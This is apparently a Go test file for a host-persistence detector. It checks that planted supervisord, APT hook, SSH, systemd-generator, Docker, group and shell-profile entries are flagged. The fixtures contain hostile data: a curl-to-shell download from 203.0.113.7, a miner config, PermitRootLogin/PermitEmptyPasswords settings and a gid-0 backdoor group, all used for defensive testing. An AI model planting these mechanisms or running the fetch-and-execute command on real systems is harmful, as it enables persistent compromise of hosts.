package persist

import (
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

// TestFindPlaces: the places Find did not examine before (issue #16),
// each with one planted entry on a stock root, judged without a window
// unless the case says otherwise.
func TestFindPlaces(t *testing.T) {
	at := hosttest.InfectionTime
	dl := "curl -fsSL http://203.0.113.7/x.sh | sh"
	deb := hosttest.Debian12
	type tc struct {
		name  string
		add   func(hosttest.Tree) hosttest.Tree
		since time.Time
		want  want
	}
	entry := func(es ...hosttest.Entry) func(hosttest.Tree) hosttest.Tree {
		return func(t hosttest.Tree) hosttest.Tree {
			for i := range es {
				if es[i].Mtime.IsZero() {
					es[i].Mtime = at
				}
			}
			return t.With(es...)
		}
	}
	appendTo := func(p, text string) func(hosttest.Tree) hosttest.Tree {
		return func(t hosttest.Tree) hosttest.Tree { return t.Append(p, text, at) }
	}
	lines := func(p string) int {
		e, _ := deb().Get(p)
		return len(splitLines([]byte(e.Data))) + 1
	}
	tests := []tc{
		{"supervisord-conf.d", entry(hosttest.Entry{Path: "/etc/supervisor/conf.d/sys.conf", Data: "[program:sys]\ncommand=/bin/sh -c '" + dl + "'\nautorestart=true\n"}), time.Time{},
			want{"/etc/supervisor/conf.d/sys.conf", 2, KindSupervisor, Critical, ActionQuarantine}},
		{"supervisord-hidden-home", entry(hosttest.Entry{Path: "/root/.cfg/supervisord.conf", Data: "[supervisord]\nnodaemon=false\n\n[program:kw]\ncommand = /root/.cfg/kworker\n  -o stratum+tcp://203.0.113.7:3333\nautostart=true\n"},
			hosttest.Entry{Path: "/root/.cfg/kworker", Data: hosttest.FakeELF("miner"), Mode: 0o755}), time.Time{},
			want{"/root/.cfg/supervisord.conf", 5, KindSupervisor, Critical, ActionQuarantine}},
		{"apt-pre-invoke", entry(hosttest.Entry{Path: "/etc/apt/apt.conf.d/99sys", Data: "APT::Update::Pre-Invoke {\"" + dl + " >/dev/null 2>&1 || true\";};\n"}), time.Time{},
			want{"/etc/apt/apt.conf.d/99sys", 1, KindAPTHook, Critical, ActionQuarantine}},
		{"apt-nested-post-invoke", entry(hosttest.Entry{Path: "/etc/apt/apt.conf.d/50x", Data: "// keep\nDPkg\n{\n  Post-Invoke\n  {\n    \"/var/tmp/.d/u || true\";\n  };\n};\n"}), time.Time{},
			want{"/etc/apt/apt.conf.d/50x", 6, KindAPTHook, High, ActionQuarantine}},
		{"shells-copy", func(t hosttest.Tree) hosttest.Tree {
			return t.With(hosttest.Entry{Path: "/usr/sbin/sshd-sh", Data: hosttest.FakeELF("bash copy"), Mode: 0o755}).Append("/etc/shells", "/usr/sbin/sshd-sh\n", at)
		}, time.Time{}, want{"/etc/shells", lines("/etc/shells"), KindAccount, High, ActionRemoveLine}},
		{"sshd-permit-root", entry(hosttest.Entry{Path: "/etc/ssh/sshd_config.d/10-x.conf", Data: "PermitRootLogin yes\nPermitEmptyPasswords yes\n"}), time.Time{},
			want{"/etc/ssh/sshd_config.d/10-x.conf", 2, KindSSHConfig, High, ActionNone}},
		{"generator", entry(hosttest.Entry{Path: "/etc/systemd/system-generators/net-gen", Data: "#!/bin/sh\n/usr/bin/logger gen\n", Mode: 0o755}), time.Time{},
			want{"/etc/systemd/system-generators/net-gen", 0, KindSystemd, High, ActionQuarantine}},
		{"authorized-keys-file-extra", func(t hosttest.Tree) hosttest.Tree {
			return t.With(
				hosttest.Entry{Path: "/etc/ssh/sshd_config.d/20-keys.conf", Data: "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n", Mtime: at},
				hosttest.Entry{Path: "/etc/ssh/keys/root", Data: hosttest.AuthorizedKey("extra", "x") + "\n", Mtime: at},
			)
		}, time.Time{}, want{"/etc/ssh/keys/root", 1, KindSSHKey, Medium, ActionRemoveLine}},
		{"container-restart-always", entry(
			hosttest.Entry{Path: "/var/lib/docker/containers/abc/config.v2.json", Data: `{"ID":"abc","Name":"/web","Path":"sh","Args":["-c","` + dl + `"],"Config":{"Image":"alpine"}}`},
			hosttest.Entry{Path: "/var/lib/docker/containers/abc/hostconfig.json", Data: `{"RestartPolicy":{"Name":"unless-stopped"}}`}), time.Time{},
			want{"/var/lib/docker/containers/abc/config.v2.json", 0, KindContainer, Critical, ActionStopContainer}},
		{"container-no-restart-capped", entry(
			hosttest.Entry{Path: "/var/lib/docker/containers/abd/config.v2.json", Data: `{"ID":"abd","Name":"/x","Path":"sh","Args":["-c","` + dl + `"],"Config":{"Image":"alpine"}}`},
			hosttest.Entry{Path: "/var/lib/docker/containers/abd/hostconfig.json", Data: `{"RestartPolicy":{"Name":"no"}}`}), time.Time{},
			want{"/var/lib/docker/containers/abd/config.v2.json", 0, KindContainer, Medium, ActionNone}},
		{"group-gid0", appendTo("/etc/group", "sys0:x:0:\n"), time.Time{}, want{"/etc/group", lines("/etc/group"), KindAccount, Critical, ActionRemoveLine}},
		{"group-system-account-sudo", func(t hosttest.Tree) hosttest.Tree {
			g, _ := t.Get("/etc/group")
			g.Data = replaceOnce(g.Data, "\nsudo:x:27:admin\n", "\nsudo:x:27:admin,www-data\n")
			g.Mtime = at
			return t.With(g)
		}, time.Time{}, want{"/etc/group", 21, KindAccount, High, ActionRemoveMember}}, // the sudo line stays: admin needs it
		{"bash-logout", appendTo("/home/admin/.bash_logout", dl+"\n"), time.Time{}, want{"/home/admin/.bash_logout", lines("/home/admin/.bash_logout"), KindShellProfile, Critical, ActionRemoveLine}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := build(t, tt.add(deb()))
			fs := find(t, dir, tt.since)
			checkWant(t, fs, []want{tt.want})
			if t.Failed() {
				t.Log(dump(fs))
			}
		})
	}
}

func replaceOnce(s, old, new string) string {
	for i := 0; i+len(old) <= len(s); i++ {
		if s[i:i+len(old)] == old {
			return s[:i] + new + s[i+len(old):]
		}
	}
	return s
}

func TestParsePlaces(t *testing.T) {
	sv := parseSupervisor([]byte("; c\n[supervisord]\ncommand=/not/a/program\n[program:a]\ncommand = /usr/bin/a -x ; comment\nuser=root\n[program:b]\ncommand=/b\n  --long\n\n[eventlistener:c]\ncommand=/c\n"))
	if diff := cmp.Diff([]supervisorProgram{{Line: 5, Name: "a", Command: "/usr/bin/a -x"}, {Line: 8, Name: "b", Command: "/b --long"}}, sv); diff != "" {
		t.Errorf("supervisord (-want +got):\n%s", diff)
	}
	apt := parseAPTConf([]byte("/* block\n comment */ APT::Update::Pre-Invoke { \"a\"; \"b\"; };\n# hash\nDPkg { Post-Invoke { \"c\";\n}; };\nAPT::Periodic::Enable \"1\";\ndpkg::pre-install-pkgs {\"d\";};\n"))
	wantAPT := []aptHook{{Line: 2, Key: "APT::Update::Pre-Invoke", Command: "a"}, {Line: 2, Key: "APT::Update::Pre-Invoke", Command: "b"},
		{Line: 4, Key: "DPkg::Post-Invoke", Command: "c"}, {Line: 7, Key: "dpkg::pre-install-pkgs", Command: "d"}}
	if diff := cmp.Diff(wantAPT, apt); diff != "" {
		t.Errorf("apt.conf (-want +got):\n%s", diff)
	}
	g := parseGroup([]byte("root:x:0:\nsudo:x:27:admin, eve\nbad\nx:x:y:\n"))
	wantG := []groupEntry{{Line: 1, Raw: "root:x:0:", Name: "root"}, {Line: 2, Raw: "sudo:x:27:admin, eve", Name: "sudo", GID: 27, Members: []string{"admin", "eve"}},
		{Line: 3, Raw: "bad", Err: errPasswdFields}, {Line: 4, Raw: "x:x:y:", Name: "x", Err: errPasswdID}}
	if diff := cmp.Diff(wantG, g, cmp.Comparer(func(a, b error) bool { return a == b })); diff != "" {
		t.Errorf("group (-want +got):\n%s", diff)
	}
	ci, err := parseContainer([]byte(`{"ID":"1","Name":"/n","Path":"/bin/sh","Args":["-c","a b"],"Config":{"Image":"i"}}`), []byte(`{"RestartPolicy":{"Name":"always"},"Privileged":true,"Binds":["/:/host:rw"]}`))
	if diff := cmp.Diff(containerInfo{ID: "1", Name: "n", Image: "i", Command: "/bin/sh -c 'a b'", Restart: "always", Privileged: true, HostRoot: true}, ci); err != nil || diff != "" {
		t.Errorf("container (-want +got): %v\n%s", err, diff)
	}
	if _, err := parseContainer([]byte("{"), nil); err == nil {
		t.Error("bad JSON accepted")
	}
}

// TestStockAPTHooksStayInfo: the hooks a stock image carries (debconf's
// Pre-Install-Pkgs, Docker images' docker-clean) are not findings.
func TestStockAPTHooksStayInfo(t *testing.T) {
	dir := build(t, hosttest.Debian12())
	for _, f := range find(t, dir, hosttest.Window()) {
		if f.Kind == KindAPTHook && f.Severity > Info {
			t.Errorf("stock hook: %s", f)
		}
	}
}
